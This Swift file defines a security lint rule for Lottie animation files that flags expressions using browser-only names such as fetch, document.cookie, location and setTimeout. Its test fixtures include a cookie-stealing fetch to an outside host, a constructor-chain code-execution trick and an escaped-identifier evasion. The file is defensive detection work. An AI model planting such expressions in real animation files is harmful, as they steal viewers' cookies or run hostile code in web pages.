internal import PegbarDiagnostics
internal import PegbarLottie

extension Rule {
  /// An expression uses what no animation needs.
  package static let expressionSuspicious = Rule(
    .rule(
      "sec/expression-suspicious", .error,
      RulePage(
        title: "An expression does more than animate",
        meaning: """
          The expression uses a name that browsers have and After Effects lacks: for the page, \
          for the network, or to run text as code. A backslash outside of text hides such names.
          """,
        effect: "It may read what the page shows and send it elsewhere.",
        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
    found: [
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "[]['constructor']['constructor']('return 1')()"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "self.fetch('/a')"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "this?.fetch('/a')"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "`a${`b${fetch(1)}`}`"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "{let fetch = 0} fetch('x')"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "setTimeout(x, 1)"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "location.href = 'https://example.com'"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "top.location"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "[...fetch(1)]"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "time++ / fetch(1) / 2"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "\\u0066etch(1)"}}"#),
    ],
    silent: [
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var frames = 5; frames.length + top"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "`${time} fetch {window}`"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "name.replace(/[/\\d]fetch/g, '\\n')"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "thisLayer.location + {a: 1}.a / 2"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var $bm_rt; $bm_rt = time * 90;"}}"#),
      // Names of its own, members, texts and comments.
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var window = 5; window * time"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "thisComp.layer('fetch').document"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "// eval it\n/* window */ time"}}"#),
    ],
    check: .several([
      .property { property, run in
        guard let expression = property.expression else { return }
        run.reportSuspicious(expression, at: property.source)
      },
      .text { text, run in
        for selector in text.animators.lazy.flatMap(\.selectors) {
          guard let expression = selector.expression else { continue }
          run.reportSuspicious(expression, at: selector.source)
        }
      },
    ]))
}

extension RuleRun {
  fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
    var words = ScriptWords(expression)
    guard let word = words.firstSuspicious() else { return }
    let thing = word == "\\" ? "a backslash outside of text" : "'\(word)'"
    report("the expression uses \(thing), which no animation needs", at: source)
  }
}
